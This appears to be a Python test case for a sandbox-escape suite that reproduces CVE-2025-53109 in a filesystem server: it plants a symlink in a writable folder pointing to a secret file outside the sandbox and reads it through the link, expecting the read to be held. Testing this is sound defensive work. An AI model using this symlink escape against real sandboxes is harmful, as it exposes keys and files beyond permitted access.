"""A server makes a link in a folder that it may write, which leads to keys outside.

Source: CVE-2025-53109 of server-filesystem.
Seen: where it leads to there is nothing in its sandbox.
"""

from pathlib import Path

from escaping import HELD, Escaping


class Attack(Escaping):
    def escape(self):
        link = Path(self.stage.write, "link")
        link.unlink(missing_ok=True)
        link.symlink_to(self.stage.secret)
        return link.read_text()


SEEN = HELD
